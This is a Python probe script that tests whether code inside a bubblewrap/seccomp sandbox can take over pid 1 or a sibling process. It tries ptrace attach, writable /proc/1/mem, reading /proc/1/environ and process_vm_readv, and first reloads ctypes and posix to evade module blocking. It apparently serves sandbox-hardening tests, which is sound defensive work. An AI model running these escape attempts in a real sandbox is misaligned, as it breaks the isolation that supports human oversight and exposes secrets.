# Take over the PID namespace's init (bwrap's pid 1, which runs outside the seccomp filter)
# or a sibling: ptrace attach, /proc/1/mem, process_vm_readv, pidfd_getfd.
import sys

for name in ("ctypes", "_ctypes"):
    sys.modules.pop(name, None)
sys.modules.pop("posix", None)
import ctypes  # noqa: E402
import posix  # noqa: E402
import time  # noqa: E402

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206


def try_ptrace(what, pid):
    for req in (PTRACE_ATTACH, PTRACE_SEIZE):
        ctypes.set_errno(0)
        rv = libc.ptrace(req, pid, None, None)
        print(what, "ptrace", req, "ATTACHED" if rv == 0 else "refused", ctypes.get_errno())


try_ptrace("init", 1)
for path in ("/proc/1/mem", "/proc/1/task/1/mem", "/proc/1/environ"):
    try:
        fd = posix.open(path, posix.O_RDWR if path.endswith("mem") else posix.O_RDONLY)
        print(path, "OPENED")
        posix.close(fd)
    except OSError as exc:
        print(path, "refused", exc.errno)
buf = ctypes.create_string_buffer(64)


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


local = IOVec(ctypes.cast(buf, ctypes.c_void_p), 64)
remote = IOVec(0x400000, 64)
rv = libc.process_vm_readv(1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
print("process_vm_readv init", "READ" if rv > 0 else "refused", ctypes.get_errno())
child = posix.fork()
if child == 0:
    time.sleep(3)
    posix._exit(0)
time.sleep(0.1)
try_ptrace("sibling", child)
posix.kill(child, 9)
